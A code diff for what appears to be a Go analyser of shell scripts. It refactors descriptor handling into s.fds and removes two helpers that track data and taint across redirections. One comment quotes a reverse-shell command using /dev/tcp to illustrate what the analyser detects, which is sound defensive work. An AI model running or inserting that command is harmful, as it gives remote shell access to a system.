@@ -95,7 +95,7 @@ func (r *reader) connect(s *state, red *redirection, inv *command.Invocation, fd
 		inv.Stdin = d
 		return
 	}
-	s.open(fd, d)
+	s.fds.open(fd, d)
 }
 
 // handsSecret notes that a here-document holds a variable named like a secret, as
@@ -246,9 +246,9 @@ func (r *reader) redirect(s *state, rd *syntax.Redirect, out command.Redirect, i
 			fd, red.stdout = "1", discarded
 		}
 		// What is sent there can be answered: bash -i >& /dev/tcp/HOST/PORT 0>&1.
-		s.open(fd, d)
+		s.fds.open(fd, d)
 		if rd.Op != syntax.RdrOut && rd.Op != syntax.AppOut {
-			s.open("2", d) // >& and &> are both streams
+			s.fds.open("2", d) // >& and &> are both streams
 		}
 		return
 	}
@@ -387,7 +387,7 @@ func (r *reader) duplicate(s *state, rd *syntax.Redirect, out command.Redirect, 
 		case (out.Fd == "0" || out.Fd == "" && !output) && digits != "" && digits != "0":
 			d := r.descriptor(s, digits, "/dev/fd/"+digits)
 			r.connect(s, red, inv, "", d)
-			s.open(digits, command.Data{Taint: d.Taint}) // whoever reads it next goes on behind
+			s.fds.open(digits, command.Data{Taint: d.Taint}) // whoever reads it next goes on behind
 		case !output && digits == "":
 			if out.Fd == "" || out.Fd == "0" {
 				r.connect(s, red, inv, "", command.Data{None: true})
@@ -396,37 +396,12 @@ func (r *reader) duplicate(s *state, rd *syntax.Redirect, out command.Redirect, 
 			if digits == "1" {
 				red.other = red.copied()
 			}
-			s.open(out.Fd, r.descriptor(s, digits, "/dev/fd/"+digits))
+			s.fds.open(out.Fd, r.descriptor(s, digits, "/dev/fd/"+digits))
 		}
 		return true
 	}
 	r.expandedTwice(w)
 	return !output
-}
-
-// descriptor is what can be read from a descriptor.
-func (r *reader) descriptor(s *state, n, path string) command.Data {
-	if n == "0" {
-		return s.stdin
-	}
-	if d := s.descriptor(n); d != nil {
-		return d.data
-	}
-	for i := len(r.procs) - 1; i >= 0; i-- {
-		if r.procs[i].path == path {
-			return r.procs[i].data
-		}
-	}
-	return s.anyDescriptor()
-}
-
-// anyDescriptor is what can be read from a descriptor that is not known.
-func (s *state) anyDescriptor() command.Data {
-	d := command.Data{Taint: s.stdin.Taint}
-	for _, have := range s.fds {
-		d.Taint |= have.data.Taint
-	}
-	return d
 }
 
 // content is what is known of the content of a file.
@@ -474,10 +449,10 @@ func (r *reader) redirected(st *syntax.Stmt, s *state, run func(*state) []*state
 		if red.reads {
 			e.stdin = before.stdin
 		}
-		e.reopen(before.fds, numbers)
+		e.fds.reopen(before.fds, numbers)
 		r.send(e, printed, red)
 	}
-	undone.reopen(before.fds, numbers)
+	undone.fds.reopen(before.fds, numbers)
 	return r.settle(append(states, undone))
 }
 
